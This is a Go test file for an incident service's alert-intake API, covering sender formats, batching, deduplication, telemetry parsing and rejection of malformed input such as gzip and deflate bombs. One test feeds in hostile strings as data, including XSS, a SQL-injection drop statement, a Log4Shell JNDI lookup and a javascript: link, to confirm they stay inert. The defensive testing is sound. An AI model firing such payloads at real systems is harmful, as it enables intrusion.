package api_test

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	collogs "go.opentelemetry.io/proto/otlp/collector/logs/v1"
	colmetrics "go.opentelemetry.io/proto/otlp/collector/metrics/v1"
	common "go.opentelemetry.io/proto/otlp/common/v1"
	logs "go.opentelemetry.io/proto/otlp/logs/v1"
	metrics "go.opentelemetry.io/proto/otlp/metrics/v1"
	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"

	"github.com/sigap-dev/sigap/internal/identify/intake"
	"github.com/sigap-dev/sigap/internal/incident"
	"github.com/sigap-dev/sigap/internal/storetest"
)

// intakeRoute is one way in for a sender.
type intakeRoute struct {
	source string // of the key
	path   string // with KEY in it, or the key goes elsewhere
	body   string // something it takes
	as     func(key string) []with
}

func (r intakeRoute) at(key string) (string, []with) {
	var opts []with
	if r.as != nil {
		opts = r.as(key)
	}
	return strings.ReplaceAll(r.path, "KEY", key), opts
}

func (r intakeRoute) say(key string) string { return strings.ReplaceAll(r.body, "KEY", key) }

var alert = `[{"labels":{"alertname":"HighErrors","service":"payment","severity":"critical","env":"production"},"annotations":{"summary":"30% fail"}}]`

func intakeRoutes() []intakeRoute {
	return []intakeRoute{
		{source: "alertmanager", path: "/in/KEY/api/v2/alerts", body: alert},
		{source: "alertmanager", path: "/in/KEY", body: `{"version":"4","groupKey":"g","status":"firing","receiver":"sigap","alerts":[{"status":"firing","labels":{"alertname":"A","service":"cart"},"annotations":{},"startsAt":"2026-11-24T00:00:00Z","endsAt":"0001-01-01T00:00:00Z","fingerprint":"abc"}]}`},
		{source: "grafana", path: "/in/KEY", body: `{"version":"1","groupKey":"g","status":"firing","receiver":"sigap","orgId":1,"alerts":[{"status":"firing","labels":{"alertname":"G","service":"cart"},"annotations":{},"startsAt":"2026-11-24T00:00:00Z","endsAt":"0001-01-01T00:00:00Z","fingerprint":"def"}]}`},
		{source: "pagerduty", path: "/in/KEY/v2/enqueue", body: `{"routing_key":"anything","event_action":"trigger","dedup_key":"d1","payload":{"summary":"Disk full","source":"db-1","severity":"critical"}}`},
		{source: "pagerduty", path: "/v2/enqueue", body: `{"routing_key":"KEY","event_action":"trigger","dedup_key":"d2","payload":{"summary":"Disk full","source":"db-1","severity":"critical"}}`},
		{source: "pagerduty", path: "/v2/change/enqueue", body: `{"routing_key":"KEY","payload":{"summary":"Deploy cart 2","timestamp":"2026-11-24T00:00:00Z"}}`},
		{source: "opsgenie", path: "/v2/alerts", body: `{"message":"Cart is slow","alias":"cart-slow","priority":"P1"}`,
			as: func(key string) []with { return []with{header("Authorization", "GenieKey "+key)} }},
		{source: "generic", path: "/in/KEY", body: `{"title":"Queue is stuck","service":"mailer","severity":"critical"}`},
		{source: "change", path: "/in/KEY/changes", body: `{"kind":"deploy","service":"cart","summary":"cart 4.3.0"}`},
		{source: "report", path: "/in/KEY/reports", body: `{"words":"I cannot pay","service":"checkout"}`},
		{source: "heartbeat", path: "/in/KEY/heartbeat/backup", body: ``},
		{source: "otlp", path: "/in/KEY/v1/logs", body: `{"resourceLogs":[]}`},
		{source: "agent", path: "/in/KEY/v1/metrics", body: `{"resourceMetrics":[]}`},
	}
}

func TestEveryWayInTakesWhatItsSenderSends(t *testing.T) {
	t.Parallel()
	storetest.Engines(t, func(t *testing.T, dsn string) {
		s := start(t, dsn)
		for _, r := range intakeRoutes() {
			key := s.key(r.source)
			path, opts := r.at(key)
			if a := s.do("POST", path, r.say(key), opts...); a.StatusCode/100 != 2 {
				t.Errorf("%s at %s: %d %s", r.source, r.path, a.StatusCode, a.body)
			}
		}
		s.wait("all alerts are applied", func() bool {
			alerts, err := s.Store.RecentAlerts(t.Context(), 100)
			return err == nil && len(alerts) >= 7
		})
		if changes, err := s.Store.Changes(t.Context(), incident.Window{To: time.Now().Add(time.Hour)}, 10); err != nil || len(changes) != 2 {
			t.Errorf("%d changes are kept (%v), want 2", len(changes), err)
		}
	})
}

func TestNoWayInTakesWhatCannotBeReadAndEachSaysSo(t *testing.T) {
	t.Parallel()
	s := start(t, storetest.SQLite(t))
	bomb := zipped(t, bytes.Repeat([]byte{' '}, 64<<20))
	large := bytes.Repeat([]byte{' '}, 12<<20)
	tests := []struct {
		name   string
		body   []byte
		as     []with
		status int // 0: any 4xx
	}{
		{"no JSON", []byte(`{"title":`), nil, 0},
		{"binary", []byte{0xff, 0xfe, 0, 1, 2, 0x80}, nil, 0},
		{"a scalar", []byte(`42`), nil, 0},
		{"deeply nested", []byte(strings.Repeat(`{"a":`, 50_000)), nil, 0},
		{"oversized", large, nil, http.StatusRequestEntityTooLarge},
		{"a gzip bomb", bomb, []with{header("Content-Encoding", "gzip")}, http.StatusRequestEntityTooLarge},
		{"a deflate bomb", deflated(t, bytes.Repeat([]byte{' '}, 64<<20)), []with{header("Content-Encoding", "deflate")}, 0},
		{"no gzip", []byte(alert), []with{header("Content-Encoding", "gzip")}, http.StatusBadRequest},
		{"half a gzip", zipped(t, []byte(alert))[:30], []with{header("Content-Encoding", "gzip")}, http.StatusBadRequest},
		{"an unknown encoding", []byte(alert), []with{header("Content-Encoding", "br")}, http.StatusUnsupportedMediaType},
	}
	for _, r := range intakeRoutes() {
		if r.source == "heartbeat" {
			continue // its body says nothing
		}
		key := s.key(r.source)
		path, opts := r.at(key)
		for _, tt := range tests {
			if tt.name == "oversized" && (r.source == "otlp" || r.source == "agent") {
				continue // within the bound of telemetry, which is larger
			}
			a := s.do("POST", path, tt.body, append(opts, tt.as...)...)
			if a.StatusCode/100 != 4 || tt.status != 0 && a.StatusCode != tt.status {
				t.Errorf("%s to %s: %d, want %d: %.200s", tt.name, r.path, a.StatusCode, tt.status, a.body)
			}
			if len(bytes.TrimSpace(a.body)) == 0 {
				t.Errorf("%s to %s: the refusal says nothing", tt.name, r.path)
			}
		}
		if a := s.do("POST", path, r.say(key), opts...); a.StatusCode/100 != 2 {
			t.Errorf("%s takes nothing any more: %d %s", r.path, a.StatusCode, a.body)
		}
	}
	for _, r := range intakeRoutes() {
		path, opts := r.at("in_made-up")
		if a := s.do("POST", path, r.say("in_made-up"), opts...); a.StatusCode != http.StatusUnauthorized && a.StatusCode != http.StatusBadRequest || len(a.body) == 0 {
			t.Errorf("%s with a key that does not exist: %d %s", r.path, a.StatusCode, a.body)
		}
	}
}

func TestABodyThatIsTooLargeIsNotedAsASignal(t *testing.T) {
	t.Parallel()
	s := start(t, storetest.SQLite(t))
	large := append([]byte(`{"title":"The database burns"`), bytes.Repeat([]byte(" "), 2<<20)...)
	if a := s.do("POST", "/in/"+s.key("generic"), large); a.StatusCode != http.StatusRequestEntityTooLarge {
		t.Fatalf("%d %.200s", a.StatusCode, a.body)
	}
	s.wait("the beginning of the body stands in a signal", func() bool {
		alerts, _ := s.Store.RecentAlerts(t.Context(), 10)
		return len(alerts) == 1 && strings.Contains(alerts[0].Signal.Title, "too large") && strings.Contains(alerts[0].Signal.Description, "The database burns")
	})
}

func TestTheValidEntriesOfABatchAreKeptAndTheOthersNamed(t *testing.T) {
	t.Parallel()
	storetest.Engines(t, func(t *testing.T, dsn string) {
		s := start(t, dsn)
		a := s.do("POST", "/in/"+s.key("generic"), `[{"title":"First","service":"a"},{"severity":"critical"},{"title":"Third","service":"c"},17]`)
		if a.StatusCode/100 != 2 || !strings.Contains(string(a.body), "rejected") {
			t.Errorf("a mixed batch: %d %s", a.StatusCode, a.body)
		}
		s.wait("the two valid ones are there", func() bool {
			alerts, _ := s.Store.RecentAlerts(t.Context(), 10)
			return len(alerts) == 2
		})
		a = s.do("POST", "/in/"+s.key("alertmanager")+"/api/v2/alerts", `[{"labels":{"alertname":"Good","service":"a"}},{"labels":{}},17]`)
		if a.StatusCode/100 == 5 {
			t.Errorf("a mixed batch of Prometheus: %d %s", a.StatusCode, a.body)
		}
		s.wait("the valid one of Prometheus is there too", func() bool {
			alerts, _ := s.Store.RecentAlerts(t.Context(), 10)
			return len(alerts) == 3
		})
	})
}

func TestDuplicatesAndLatecomersMakeOneAlert(t *testing.T) {
	t.Parallel()
	storetest.Engines(t, func(t *testing.T, dsn string) {
		s := start(t, dsn)
		path := "/in/" + s.key("generic")
		var wg sync.WaitGroup
		for range 8 {
			wg.Go(func() {
				for range 5 {
					s.must(nil, "POST", path, `{"title":"Disk full","identity":"disk","service":"db","severity":"critical"}`)
				}
			})
		}
		wg.Wait()
		s.must(nil, "POST", path, `{"title":"Never fired","identity":"unknown","status":"resolved"}`)
		s.must(nil, "POST", path, `{"title":"Disk full","identity":"disk","status":"resolved"}`)
		s.must(nil, "POST", path, `{"title":"Disk full","identity":"disk","status":"resolved"}`)
		s.wait("the alert has ended", func() bool {
			alerts, _ := s.Store.RecentAlerts(t.Context(), 10)
			for _, a := range alerts {
				if a.Signal.Identity == "disk" {
					return a.State == incident.AlertResolved
				}
			}
			return false
		})
		if list := s.incidents(incident.Filter{}); len(list) != 1 {
			t.Errorf("%d candidates, want the one of the disk", len(list))
		}
	})
}

func TestHostileSignalsAreKeptAsWordsAndHarmNothing(t *testing.T) {
	t.Parallel()
	storetest.Engines(t, func(t *testing.T, dsn string) {
		s := start(t, dsn)
		path, token := "/in/"+s.key("generic"), bearer(s.token(incident.Admin))
		for n, title := range []string{`<script>alert(1)</script>`, `'; DROP TABLE incidents; --`, `a\u0000b`, `\ud800`, `\u202e\u0007\u001b[31m`, strings.Repeat("x", 100_000), `${jndi:ldap://evil}`, `%s%n%x`} {
			body := fmt.Sprintf(`{"title":"%s","service":"hostile-%d","severity":"critical","url":"javascript:alert(1)","labels":{"a\u0000":"b\u0000"}}`, title, n)
			if a := s.do("POST", path, body); a.StatusCode >= 500 {
				t.Errorf("%.40q: %d %s", title, a.StatusCode, a.body)
			}
		}
		s.must(nil, "POST", path, `{"title":"The last one","service":"last","severity":"critical"}`)
		s.wait("all are applied, the honest one behind them too", func() bool {
			waiting, aside, err := s.Store.InboxSize(t.Context())
			if err != nil || aside != 0 {
				t.Fatalf("%d wait and %d are set aside (%v)", waiting, aside, err)
			}
			return waiting == 0 && len(s.incidents(incident.Filter{Service: "last"})) == 1
		})
		signals := s.must(nil, "GET", "/api/signals", nil, token)
		if strings.Contains(string(signals.body), "javascript:") {
			t.Errorf("a link that runs a script is handed to the page")
		}
	})
}

func TestTheKeyOfThePublicFormTakesReportsAlone(t *testing.T) {
	t.Parallel()
	s := start(t, storetest.SQLite(t))
	key := s.key("report")
	for _, r := range intakeRoutes() {
		path, opts := r.at(key)
		a := s.do("POST", path, r.say(key), opts...)
		if taken := a.StatusCode/100 == 2; taken != (r.source == "report" || r.path == "/in/KEY" && taken) {
			t.Errorf("%s with the form's key: %d %s", r.path, a.StatusCode, a.body)
		}
	}
	for _, i := range s.incidents(incident.Filter{}) {
		if len(i.Alerts) > 0 {
			t.Errorf("%s began with an alert that came by the form's key", i.Ref())
		}
	}
	var form struct{ Services []string }
	s.must(&form, "GET", "/api/report/"+key, nil)
	s.must(nil, "POST", "/api/report/"+key, `{"words":"I cannot pay"}`)
	if a := s.do("GET", "/api/report/"+s.key("generic"), nil); a.StatusCode != http.StatusNotFound {
		t.Errorf("another key opens the form: %d", a.StatusCode)
	}
}

func TestAKeysAddressTellsWhatIsTakenThere(t *testing.T) {
	t.Parallel()
	s := start(t, storetest.SQLite(t))
	var got struct{ Source, Send string }
	s.must(&got, "GET", "/in/"+s.key("grafana"), nil)
	if got.Source != "grafana" || !strings.Contains(got.Send, "POST") {
		t.Errorf("it says %+v", got)
	}
	if p := s.do("GET", "/in/in_made-up", nil).problem(t); p.Status != http.StatusUnauthorized {
		t.Errorf("a key that does not exist: %+v", p)
	}
}

func TestWhatASenderLeftOutIsNamedInTheAnswer(t *testing.T) {
	t.Parallel()
	s := start(t, storetest.SQLite(t))
	var got intake.Receipt
	s.must(&got, "POST", "/in/"+s.key("alertmanager"), `{"version":"4","status":"firing","truncatedAlerts":7,"alerts":[{"status":"firing","labels":{"alertname":"A"}}]}`)
	if got.Accepted != 1 || got.Truncated != 7 {
		t.Errorf("the answer is %+v, want one taken and seven left out", got)
	}
}

func TestAHeartbeatIsTakenByEveryMeansThatACronJobHas(t *testing.T) {
	t.Parallel()
	s := start(t, storetest.SQLite(t))
	path := "/in/" + s.key("heartbeat") + "/heartbeat/backup"
	s.must(nil, "GET", path, nil)
	s.must(nil, "POST", path, nil)
	if a := s.do("HEAD", path, nil); a.StatusCode/100 != 2 {
		t.Errorf("HEAD: %d", a.StatusCode)
	}
}

func TestTheAlertmanagerAPIAnswersItsOwnQuestions(t *testing.T) {
	t.Parallel()
	s := start(t, storetest.SQLite(t))
	base := "/in/" + s.key("alertmanager") + "/api/v2/"
	s.must(nil, "POST", base+"alerts", alert)
	var got []intake.GettableAlert
	s.wait("the alert is listed", func() bool {
		s.must(&got, "GET", base+"alerts?filter=service%3D%22payment%22", nil)
		return len(got) == 1 && got[0].Labels["alertname"] == "HighErrors"
	})
	for _, path := range []string{"alerts?filter=service%3D%22cart%22", "silences"} {
		if a := s.must(nil, "GET", base+path, nil); strings.TrimSpace(string(a.body)) != "[]" {
			t.Errorf("GET %s: %s, want an empty list", path, a.body)
		}
	}
	for _, path := range []string{"status", "receivers", "alerts/groups"} {
		s.must(nil, "GET", base+path, nil)
	}
	if a := s.do("GET", base+"alerts?filter=%7B%7B", nil); a.StatusCode != http.StatusBadRequest {
		t.Errorf("a filter that is none: %d", a.StatusCode)
	}
	for _, path := range []string{"alerts?active=false", "alerts?receiver=pager"} {
		if a := s.must(nil, "GET", base+path, nil); strings.TrimSpace(string(a.body)) != "[]" {
			t.Errorf("GET %s: %s, want an empty list", path, a.body)
		}
	}
	for _, bad := range []answer{s.do("GET", base+"alerts?receiver=(", nil), s.do("POST", base+"silences", `{"matchers":[]}`), s.do("DELETE", base+"silence/x", nil)} {
		var why string
		if err := json.Unmarshal(bad.body, &why); err != nil || bad.StatusCode != http.StatusBadRequest || why == "" {
			t.Errorf("%s: %d %s, want a 400 with a JSON string", bad.Request.URL, bad.StatusCode, bad.body)
		}
	}
	s.must(nil, "POST", "/api/windows", silence("matchers", []string{"service=search"}), bearer(s.token(incident.Responder)))
	s.must(nil, "POST", base+"alerts", `[{"labels":{"alertname":"Slow","service":"search","severity":"critical"}}]`)
	s.wait("what a window holds is listed as suppressed", func() bool {
		s.must(&got, "GET", base+"alerts?active=false", nil)
		return len(got) == 1 && got[0].Status.State == "suppressed" && len(got[0].Status.SilencedBy) == 1
	})
	var silences []intake.Silence
	s.must(&silences, "GET", base+"silences", nil)
	if len(silences) != 1 || silences[0].ID != got[0].Status.SilencedBy[0] || silences[0].Status.State != "active" || silences[0].Matchers[0].Name != "service" {
		t.Errorf("the silences are %+v", silences)
	}
	resolved := fmt.Sprintf(`[{"labels":{"alertname":"HighErrors","service":"payment","severity":"critical","env":"production"},"endsAt":%q}]`, time.Now().Add(-time.Second).Format(time.RFC3339))
	s.must(nil, "POST", base+"alerts", resolved)
	s.wait("it is gone from the list", func() bool {
		s.must(&got, "GET", base+"alerts?silenced=false", nil)
		return len(got) == 0
	})
}

func TestTelemetryIsTakenAsProtobufAndAsJSON(t *testing.T) {
	t.Parallel()
	s := start(t, storetest.SQLite(t))
	now := uint64(time.Now().UnixNano())
	text := func(s string) *common.AnyValue {
		return &common.AnyValue{Value: &common.AnyValue_StringValue{StringValue: s}}
	}
	lines := &collogs.ExportLogsServiceRequest{ResourceLogs: []*logs.ResourceLogs{{ScopeLogs: []*logs.ScopeLogs{{LogRecords: []*logs.LogRecord{
		{TimeUnixNano: now, SeverityText: "ERROR", Body: text("connection refused")}}}}}}}
	points := &colmetrics.ExportMetricsServiceRequest{ResourceMetrics: []*metrics.ResourceMetrics{{ScopeMetrics: []*metrics.ScopeMetrics{{Metrics: []*metrics.Metric{
		{Name: "cpu", Data: &metrics.Metric_Gauge{Gauge: &metrics.Gauge{DataPoints: []*metrics.NumberDataPoint{
			{TimeUnixNano: now, Value: &metrics.NumberDataPoint_AsDouble{AsDouble: 0.5}}}}}}}}}}}}
	for _, tt := range []struct {
		path string
		m    proto.Message
	}{{"logs", lines}, {"metrics", points}} {
		binary, err := proto.Marshal(tt.m)
		if err != nil {
			t.Fatal(err)
		}
		json, err := protojson.Marshal(tt.m)
		if err != nil {
			t.Fatal(err)
		}
		path := "/in/" + s.key("otlp") + "/v1/" + tt.path
		for contentType, body := range map[string][]byte{"application/x-protobuf": binary, "application/json": json} {
			a := s.must(nil, "POST", path, body, header("Content-Type", contentType))
			if got := a.Header.Get("Content-Type"); got != contentType {
				t.Errorf("%s: answered as %q, want %q", tt.path, got, contentType)
			}
			s.must(nil, "POST", path, zipped(t, body), header("Content-Type", contentType), header("Content-Encoding", "gzip"))
		}
		if a := s.do("POST", path, binary, header("Content-Type", "text/plain")); a.StatusCode != http.StatusUnsupportedMediaType {
			t.Errorf("%s as plain text: %d", tt.path, a.StatusCode)
		}
		if a := s.do("POST", path, []byte("\xff\xff\xff"), header("Content-Type", "application/x-protobuf")); a.StatusCode != http.StatusBadRequest {
			t.Errorf("%s that are none: %d", tt.path, a.StatusCode)
		}
		if a := s.do("POST", "/in/"+s.key("generic")+"/v1/"+tt.path, binary, header("Content-Type", "application/x-protobuf")); a.StatusCode != http.StatusUnauthorized {
			t.Errorf("%s with another's key: %d", tt.path, a.StatusCode)
		}
	}
}

func zipped(t *testing.T, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	if _, err := z.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func deflated(t *testing.T, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	z, err := flate.NewWriter(&out, flate.BestSpeed)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := z.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}
